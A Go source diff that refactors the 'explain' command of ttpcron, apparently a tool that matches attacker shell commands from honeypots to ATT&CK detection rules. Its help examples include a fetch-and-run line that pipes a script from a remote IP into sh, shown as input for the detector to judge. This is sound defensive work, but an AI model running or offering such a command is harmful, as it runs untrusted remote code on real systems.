@@ -6,19 +6,23 @@ import (
 	"fmt"
 	"io"
 	"strings"
+	"time"
 
 	"github.com/ttpcron/ttpcron"
+	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/cli"
+	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/ruleset"
+	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/term"
 	"github.com/ttpcron/ttpcron/tagger"
 )
 
-func (a *app) explainCommand() *command {
-	fs := a.flags()
+func explainCommand() *command {
+	fs := cli.NewFlags()
 	asJSON := fs.Bool("json", false, "print one JSON object")
 	tag := fs.String("tag", "", "explain the stored tag with this `UUID` instead of a command")
 	event := fs.Bool("event", false, "the argument is an event in the native JSON form, of any kind")
 	return &command{
-		name: "explain", args: "COMMAND", short: "show which rules match a command, and why", fs: fs, unstored: true,
-		text: `Judges one shell command as a run would: how it is taken apart, which rules match,
+		Name: "explain", Args: "COMMAND", Short: "show which rules match a command, and why", Flags: fs, Unstored: true,
+		Text: `Judges one shell command as a run would: how it is taken apart, which rules match,
 on which part of it, and what they emit. Several arguments are joined by blanks;
 - reads the command from standard input. Works without a store; where there is
 one, the states of its rules are applied.
@@ -26,44 +30,44 @@ one, the states of its rules are applied.
 --tag shows what a stored tag came of: its event, the rule and version that made
 it, which test of the rule saw what, and whether the rule as it is now would make
 it, or why not. ttpcron tags --uuid shows the UUIDs, and --json those of all tags.`,
-		examples: `ttpcron explain "cd /tmp; wget http://203.0.113.9/x.sh -O- | sh"
+		Examples: `ttpcron explain "cd /tmp; wget http://203.0.113.9/x.sh -O- | sh"
 echo 'cat /proc/cpuinfo' | ttpcron explain -
 ttpcron explain --tag 9aa491e5-f03b-5d8f-9eb5-161becedcdd6
 ttpcron explain --event '{"source_kind":"canary_fingerprint","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"user_agent":"curl/8.5.0"}}'`,
-		exits: []int{exitFailed, exitLocked, exitInterrupted},
-		run: func(ctx context.Context, args []string) error {
+		Exits: []int{exitFailed, exitLocked, exitInterrupted},
+		Run: func(ctx context.Context, s *session, args []string) error {
 			if *tag != "" {
-				if err := noArgs(args); err != nil {
+				if err := cli.NoArgs(args); err != nil {
 					return err
 				}
-				return a.explainTag(ctx, *tag, *asJSON)
+				return explainTag(ctx, s.out, s.stores, s.set, s.log, s.now, *tag, *asJSON)
 			}
-			e, err := a.eventToExplain(args, *event)
+			e, err := eventToExplain(s.now, s.stdin, args, *event)
 			if err != nil {
 				return err
 			}
-			rs, life, report, err := a.rulesWithLife(ctx)
+			rs, life, report, err := rulesWithLife(ctx, s.stores, s.set, s.log, s.now)
 			if err != nil {
 				return err
 			}
-			a.warnRules(report)
+			ruleset.Warn(s.log, report)
 			x := rs.Explain(e)
 			if *asJSON {
-				return a.printJSON(a.explanationOf(x, life))
+				return s.out.JSON(explanationOf(s.now, x, life))
 			}
-			return a.explainText(x, life)
+			return explainText(s.out, x, life)
 		},
 	}
 }
 
 // eventToExplain makes an event of the arguments.
-func (a *app) eventToExplain(args []string, native bool) (ttpcron.Event, error) {
+func eventToExplain(now func() time.Time, stdin io.Reader, args []string, native bool) (ttpcron.Event, error) {
 	if len(args) == 0 {
-		return ttpcron.Event{}, &usageError{"explain needs a command", `quote it: ttpcron explain "uname -a"`}
+		return ttpcron.Event{}, cli.Usage("explain needs a command", `quote it: ttpcron explain "uname -a"`)
 	}
 	text := strings.Join(args, " ")
 	if text == "-" {
-		b, err := io.ReadAll(io.LimitReader(a.stdin, ttpcron.MaxText+1))
+		b, err := io.ReadAll(io.LimitReader(stdin, ttpcron.MaxText+1))
 		if err != nil {
 			return ttpcron.Event{}, err
 		}
@@ -73,17 +77,17 @@ func (a *app) eventToExplain(args []string, native bool) (ttpcron.Event, error) 
 		return ttpcron.Event{}, fmt.Errorf("the command is longer than %d bytes", ttpcron.MaxText)
 	}
 	e := ttpcron.Event{
-		Kind: ttpcron.Command, ID: "explain", Time: a.now().UTC(), AttackerIP: "192.0.2.1",
+		Kind: ttpcron.Command, ID: "explain", Time: now().UTC(), AttackerIP: "192.0.2.1",
 		Payload: ttpcron.TextPayload("command_text", text),
 	}
 	if !native {
 		return e, nil
 	}
 	if err := json.Unmarshal([]byte(text), &e); err != nil {
-		return e, usagef("--event: %v", err)
+		return e, cli.Usagef("--event: %v", err)
 	}
 	if err := e.Validate(); err != nil {
-		return e, usagef("--event: %v", err)
+		return e, cli.Usagef("--event: %v", err)
 	}
 	if e.ID == "" {
 		e.ID = e.ContentID()
@@ -92,43 +96,43 @@ func (a *app) eventToExplain(args []string, native bool) (ttpcron.Event, error) 
 }
 
 // textParts prints what a text was taken apart into.
-func (a *app) textParts(x tagger.Explanation) {
-	w, t := a.stdout, a.out
+func textParts(out *term.Output, x tagger.Explanation) {
+	w, t := out, out.Term
 	for _, l := range x.Layers {
-		fmt.Fprintf(w, "%s %s\n", t.paint(dim, "decoded ("+clean(l.Method)+")"), t.cut(clean(l.Text), 400))
+		fmt.Fprintf(w, "%s %s\n", t.Paint(term.Dim, "decoded ("+term.Clean(l.Method)+")"), t.Cut(term.Clean(l.Text), 400))
 	}
 	if len(x.Signals) > 0 {
-		fmt.Fprintln(w, t.paint(bold, "derived from the trigger"))
+		fmt.Fprintln(w, t.Paint(term.Bold, "derived from the trigger"))
 		for _, f := range x.Signals {
 			value := f.Text
 			if f.Raw != nil {
 				value = string(f.Raw)
 			}
-			fmt.Fprintf(w, "  %s %s\n", clean(f.Name), t.cut(clean(value), 200))
+			fmt.Fprintf(w, "  %s %s\n", term.Clean(f.Name), t.Cut(term.Clean(value), 200))
 		}
 		fmt.Fprintln(w)
 	}
 	if len(x.Commands) > 1 || len(x.Layers) > 0 {
-		fmt.Fprintln(w, t.paint(bold, plural(len(x.Commands), "simple command", "simple commands")))
+		fmt.Fprintln(w, t.Paint(term.Bold, term.Plural(len(x.Commands), "simple command", "simple commands")))
 		for i, c := range x.Commands {
-			fmt.Fprintf(w, "  %2d  %s%s\n", i+1, strings.Repeat("  ", min(c.Depth, 8)), t.cut(clean(c.Line), 400))
+			fmt.Fprintf(w, "  %2d  %s%s\n", i+1, strings.Repeat("  ", min(c.Depth, 8)), t.Cut(term.Clean(c.Line), 400))
 		}
 		fmt.Fprintln(w)
 	}
 }
 
-func (a *app) explainText(x tagger.Explanation, life ruleLife) error {
-	w := a.stdout
-	a.textParts(x)
+func explainText(out *term.Output, x tagger.Explanation, life ruleset.Life) error {
+	w := out
+	textParts(out, x)
 	for i, j := range x.Rules {
 		if i > 0 {
 			fmt.Fprintln(w)
 		}
-		a.judgement(w, x, j)
+		judgement(out, w, x, j)
 		if s := j.Rule.State; s.Status != ttpcron.StatusEnabled {
 			fmt.Fprintf(w, "  state: %s\n", decided(s.String(), s.SetBy, s.SetAt, s.Reason))
 		}
-		if r := life.hidesRule(&j.Rule); r != nil {
+		if r := life.HidesRule(&j.Rule); r != nil {
 			fmt.Fprintf(w, "  tags are hidden: %s\n", decided("retired", r.SetBy, r.SetAt, r.Reason))
 		}
 	}
@@ -145,50 +149,50 @@ func (a *app) explainText(x tagger.Explanation, life ruleLife) error {
 }
 
 // judgement prints one rule's finding.
-func (a *app) judgement(w io.Writer, x tagger.Explanation, j tagger.Match) {
-	t := a.out
-	fmt.Fprintf(w, "%s  %s\n", t.paint(cyan, clean(j.Rule.ID)), t.paint(bold, clean(j.Rule.Name)))
+func judgement(out *term.Output, w io.Writer, x tagger.Explanation, j tagger.Match) {
+	t := out.Term
+	fmt.Fprintf(w, "%s  %s\n", t.Paint(term.Cyan, term.Clean(j.Rule.ID)), t.Paint(term.Bold, term.Clean(j.Rule.Name)))
 	for _, h := range j.Hits {
 		where := ""
 		if h.Command >= 0 && h.Command < len(x.Commands) && len(x.Commands) > 1 {
 			where = fmt.Sprintf(" of command %d", h.Command+1)
 		}
-		fmt.Fprintf(w, "  %s%s %s: %s\n", clean(h.Field), where, clean(h.Test), t.paint(green, t.cut(clean(h.Value), 200)))
+		fmt.Fprintf(w, "  %s%s %s: %s\n", term.Clean(h.Field), where, term.Clean(h.Test), t.Paint(term.Green, t.Cut(term.Clean(h.Value), 200)))
 		if line := underline(x.Text, h.Start, h.End, t); line != "" {
 			fmt.Fprint(w, line)
 		}
 	}
 	for i := range j.Tags {
 		tag := &j.Tags[i]
-		fmt.Fprintf(w, "  %s %s %s, %s, confidence %.2f\n", t.paint(yellow, "→"), clean(tag.Technique()), techniqueName(tag.Technique()), tacticName(tag.Tactic), tag.Confidence)
+		fmt.Fprintf(w, "  %s %s %s, %s, confidence %.2f\n", t.Paint(term.Yellow, "→"), term.Clean(tag.Technique()), techniqueName(tag.Technique()), tacticName(tag.Tactic), tag.Confidence)
 	}
 	if j.Dropped != "" {
-		fmt.Fprintf(w, "  no tag: %s\n", clean(j.Dropped))
+		fmt.Fprintf(w, "  no tag: %s\n", term.Clean(j.Dropped))
 	}
 }
 
 // underline shows a part of a text with a little of what stands around it.
-func underline(text string, start, end int, t terminal) string {
+func underline(text string, start, end int, t term.Terminal) string {
 	const around = 30
 	if start < 0 || end <= start || end > len(text) {
 		return ""
 	}
 	from, to := max(0, start-around), min(len(text), end+around)
-	before := clean(strings.ToValidUTF8(text[from:start], ""))
-	part := t.cut(clean(text[start:end]), 100)
-	after := clean(strings.ToValidUTF8(text[end:to], ""))
+	before := term.Clean(strings.ToValidUTF8(text[from:start], ""))
+	part := t.Cut(term.Clean(text[start:end]), 100)
+	after := term.Clean(strings.ToValidUTF8(text[end:to], ""))
 	if from > 0 {
 		before = "..." + before
 	}
 	if to < len(text) {
 		after += "..."
 	}
-	return fmt.Sprintf("      %s%s%s\n      %s%s\n", before, part, after, strings.Repeat(" ", cells(before)), t.paint(green, strings.Repeat("^", max(1, cells(part)))))
+	return fmt.Sprintf("      %s%s%s\n      %s%s\n", before, part, after, strings.Repeat(" ", term.Cells(before)), t.Paint(term.Green, strings.Repeat("^", max(1, term.Cells(part)))))
 }
 
 type explanationJSON struct {
 	Signals ttpcron.Payload `json:"signals"`
-	Text    exact           `json:"text"`
+	Text    term.Exact      `json:"text"`
 	Layers  []layerJSON     `json:"layers"`
 	Lines   []commandJSON   `json:"commands"`
 	Rules   []judgementJSON `json:"rules"`
@@ -200,14 +204,14 @@ type explanationJSON struct {
 // layerJSON has the names that [tagger.LayerView] has.
 type layerJSON struct {
 	Method     string
-	Text       exact
+	Text       term.Exact
 	Start, End int
 }
 
 type commandJSON struct {
-	Line    exact `json:"line"`
-	Program exact `json:"program"`
-	Depth   int   `json:"depth"`
+	Line    term.Exact `json:"line"`
+	Program term.Exact `json:"program"`
+	Depth   int        `json:"depth"`
 }
 
 type judgementJSON struct {
@@ -222,30 +226,30 @@ type judgementJSON struct {
 }
 
 type hitJSON struct {
-	Field   string `json:"field"`
-	Test    string `json:"test"`
-	Value   exact  `json:"value"`
-	Command *int   `json:"command"`
-	Start   *int   `json:"start"`
-	End     *int   `json:"end"`
+	Field   string     `json:"field"`
+	Test    string     `json:"test"`
+	Value   term.Exact `json:"value"`
+	Command *int       `json:"command"`
+	Start   *int       `json:"start"`
+	End     *int       `json:"end"`
 }
 
-func (a *app) explanationOf(x tagger.Explanation, life ruleLife) explanationJSON {
-	out := explanationJSON{Signals: x.Signals, Text: exact(x.Text), Tags: x.Tags, Skipped: x.Verdict.Skipped, Bounded: x.Verdict.Bounded}
+func explanationOf(now func() time.Time, x tagger.Explanation, life ruleset.Life) explanationJSON {
+	out := explanationJSON{Signals: x.Signals, Text: term.Exact(x.Text), Tags: x.Tags, Skipped: x.Verdict.Skipped, Bounded: x.Verdict.Bounded}
 	for _, l := range x.Layers {
-		out.Layers = append(out.Layers, layerJSON{l.Method, exact(l.Text), l.Start, l.End})
+		out.Layers = append(out.Layers, layerJSON{l.Method, term.Exact(l.Text), l.Start, l.End})
 	}
 	for _, c := range x.Commands {
-		out.Lines = append(out.Lines, commandJSON{exact(c.Line), exact(c.Program), c.Depth})
+		out.Lines = append(out.Lines, commandJSON{term.Exact(c.Line), term.Exact(c.Program), c.Depth})
 	}
 	for _, j := range x.Rules {
-		one := judgementJSON{RuleID: j.Rule.ID, Version: j.Rule.Version, Name: j.Rule.Name, Dropped: j.Dropped, Tags: j.Tags, Retired: life.hidesRule(&j.Rule) != nil}
+		one := judgementJSON{RuleID: j.Rule.ID, Version: j.Rule.Version, Name: j.Rule.Name, Dropped: j.Dropped, Tags: j.Tags, Retired: life.HidesRule(&j.Rule) != nil}
 		if j.Rule.State.Status != ttpcron.StatusEnabled {
-			s := a.stateOf(j.Rule.State)
+			s := stateOf(now, j.Rule.State)
 			one.State = &s
 		}
 		for _, h := range j.Hits {
-			hit := hitJSON{Field: h.Field, Test: h.Test, Value: exact(h.Value)}
+			hit := hitJSON{Field: h.Field, Test: h.Test, Value: term.Exact(h.Value)}
 			if h.Command >= 0 {
 				hit.Command = &h.Command
 			}
